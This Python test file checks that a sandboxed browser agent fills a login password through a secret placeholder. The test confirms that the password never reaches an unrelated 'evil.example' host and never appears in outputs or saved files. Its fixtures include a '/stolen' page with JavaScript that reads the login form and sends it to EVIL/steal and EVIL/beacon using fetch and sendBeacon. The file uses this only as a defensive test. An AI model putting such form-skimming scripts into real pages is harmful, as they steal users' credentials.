"""Signing in by a browser in the sandbox: the password goes to its own host, and neither page nor record has it."""

from __future__ import annotations

import base64
import json
import threading
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from urllib.parse import parse_qs

import msgspec
import pytest

from alita_tui.events import RunReport
from alita_tui.sandbox.settings import EngineSettings
from tests.sandbox.browser_lab import Browsing
from tests.sandbox.loopback import ROOT, Quiet

pytestmark = [pytest.mark.podman, pytest.mark.walk]
PASSWORD = "p/4 ss+ü&\"'<word>"
FIELDS = (
    "<input name=user value=ada><input name=password id=password type=password><button>in</button></form>"
)
PAGES = {
    "/": f"<form method=post action=/in>{FIELDS}",
    "/parts": f"<form method=post action=/in enctype=multipart/form-data>{FIELDS}",
    "/query": f"<form action=/in>{FIELDS}",
    "/plain": f"<form method=post action=/in enctype=text/plain>{FIELDS}",
    "/elsewhere": f"<form method=post action=EVIL/in>{FIELDS}",
    "/elsewhere-query": f"<form action=EVIL/in>{FIELDS}",
    "/json": f"<form id=form>{FIELDS}<p id=said></p><script>form.onsubmit = event => {{ event.preventDefault();"
    "fetch('/in', {method: 'POST', headers: {'content-type': 'application/json'}, body: JSON.stringify("
    "{user: 'ada', password: password.value})}).then(r => r.text()).then(t => { said.innerHTML = t }) }</script>",
    "/stolen": f"<form method=post action=/in>{FIELDS}<p id=said></p><script>form = document.forms[0];"
    "form.onsubmit = event => { event.preventDefault(); const body = new URLSearchParams(new FormData(form));"
    "const all = ['EVIL/steal', 'EVIL/steal?' + body].map((url, at) => fetch(url, {method: 'POST', mode: 'no-cors',"
    "body: at ? 'x' : body}).catch(() => 0)); navigator.sendBeacon('EVIL/beacon', body);"
    "Promise.all(all).then(() => { said.textContent = 'tried' }) }</script>",
}


@dataclass
class Site:
    name: str
    port: int = 0
    passwords: list[str] = field(default_factory=list)
    """What was sent as the password."""
    heard: bytes = b""
    """All that came, one request after the other."""

    @property
    def base(self) -> str:
        return f"https://{self.name}:{self.port}"


@contextmanager
def serving(name: str, evil: str = "") -> Iterator[Site]:
    site = Site(name)

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            path, _, query = self.path.partition("?")
            site.heard += self.requestline.encode()
            if path == "/in":
                return self._signed_in(parse_qs(query))
            if path == "/home":
                inside = "sid=1" in (self.headers.get("Cookie") or "")
                return self._say("Welcome, ada" if inside else "Sign in first")
            return self._say(PAGES.get(path, "").replace("EVIL", evil))

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            site.heard += self.requestline.encode() + body
            kind = self.headers.get("Content-Type") or ""
            if "json" in kind:
                return self._signed_in({"password": [json.loads(body)["password"]]})
            if "multipart" in kind:
                part = body.decode().partition('name="password"\r\n\r\n')[2]
                return self._signed_in({"password": [part.partition("\r\n--")[0]]})
            return self._signed_in(parse_qs(body.decode()))

        def _signed_in(self, form: dict[str, list[str]]) -> None:
            """What a careless or hostile site does: it repeats the password in every way it can."""
            sent = form.get("password", [""])[0]
            site.passwords.append(sent)
            coded = base64.b64encode(sent.encode()).decode()
            text = sent.replace("&", "&amp;").replace("<", "&lt;")
            self._say(
                f"<title>{text}</title>You sent {text} <pre>{coded} {sent.encode().hex()}</pre>"
                f"<a href='/home?{coded}'>home</a><script>console.log(atob('{coded}'), {json.dumps(sent)})</script>",
                cookie="sid=1; Path=/" if sent == PASSWORD else f"tried={coded}",
            )

        def _say(self, text: str, cookie: str = "") -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(text.encode())))
            self.send_header("Access-Control-Allow-Origin", "*")
            if cookie:
                self.send_header("Set-Cookie", cookie)
            self.end_headers()
            self.wfile.write(text.encode())

        def log_message(self, *_: object) -> None:
            return

    server = Quiet(("127.0.0.1", 0), Handler)
    site.port = server.server_address[1]
    server.socket = ROOT.context(name).wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, args=(0.02,))
    thread.start()
    try:
        yield site
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@pytest.fixture
def evil() -> Iterator[Site]:
    with serving("evil.example") as found:
        yield found


@pytest.fixture
def site(evil: Site) -> Iterator[Site]:
    with serving("site.example", evil.base) as found:
        yield found


@pytest.fixture
async def browse(settings: EngineSettings, site: Site, evil: Site) -> AsyncIterator[Browsing]:
    """Both sites are granted; the password is the first one's alone."""
    browsing = Browsing(settings, site.base, evil.base, PIN=f"{PASSWORD}\n")
    yield browsing
    await browsing.sandbox.close()


FILL = {"do": "fill", "on": "#password", "secret": "PIN"}
IN = {"do": "click", "on": "button"}
SENT = {"do": "wait", "text": "You sent"}
WAYS = ("/", "/parts", "/json", "/query")


def spoken(report: RunReport, browse: Browsing, folder: Path) -> str:
    """All that the model, the person and the record get."""
    files = [file.read_bytes().decode("latin-1") for file in folder.iterdir()]
    return " ".join(
        (msgspec.json.encode([report, browse.told]).decode(), str(report), str(browse.told), *files)
    )


def without_password(text: str) -> bool:
    ways = (PASSWORD, json.dumps(PASSWORD)[1:-1], base64.b64encode(PASSWORD.encode()).decode()[:16])
    return not any(way in text for way in (*ways, PASSWORD.encode().hex(), PASSWORD[:6], "p%2F4"))


@pytest.mark.parametrize("page", WAYS)
async def test_a_stand_in_signs_in_without_revealing_the_password(
    browse: Browsing, site: Site, evil: Site, tmp_path: Path, page: str
) -> None:
    steps = (FILL, IN, SENT, {"do": "extract"}, {"do": "extract", "what": "links"}, {"do": "screenshot"},
             {"do": "open", "url": "/home"}, {"do": "extract"})  # fmt: skip
    done = await browse(page, *steps, out=str(tmp_path))
    assert done.status == "ok", (done.error, browse.told)
    assert site.passwords == [PASSWORD] and done.result["extracted"][2] == "Welcome, ada"
    assert "You sent ***" in done.result["extracted"][0]
    assert without_password(spoken(done, browse, tmp_path))
    assert {one.secrets for one in browse.told if one.secrets} == {("PIN",)}
    assert not evil.heard


@pytest.mark.parametrize("page", ["/elsewhere", "/elsewhere-query", "/stolen"])
async def test_a_form_to_another_granted_host_does_not_get_the_password(
    browse: Browsing, site: Site, evil: Site, tmp_path: Path, page: str
) -> None:
    sent = {"do": "wait", "text": "tried" if page == "/stolen" else "not granted"}
    done = await browse(page, FILL, IN, sent, {"do": "extract"}, out=str(tmp_path))
    refused = [one for one in browse.told if one.outcome == "refused" and "evil.example" in one.request]
    assert refused and all("the secret PIN is not granted for evil.example" in one.reason for one in refused)
    assert PASSWORD.encode() not in evil.heard and b"PIN-" not in evil.heard and not site.passwords
    assert without_password(spoken(done, browse, tmp_path))


async def test_a_body_that_is_no_form_contains_the_stand_in(
    browse: Browsing, site: Site, tmp_path: Path
) -> None:
    done = await browse("/plain", FILL, IN, SENT, {"do": "extract"}, out=str(tmp_path))
    assert done.status == "ok", done.error
    assert b"password=PIN-" in site.heard and PASSWORD not in site.passwords
    assert without_password(spoken(done, browse, tmp_path))
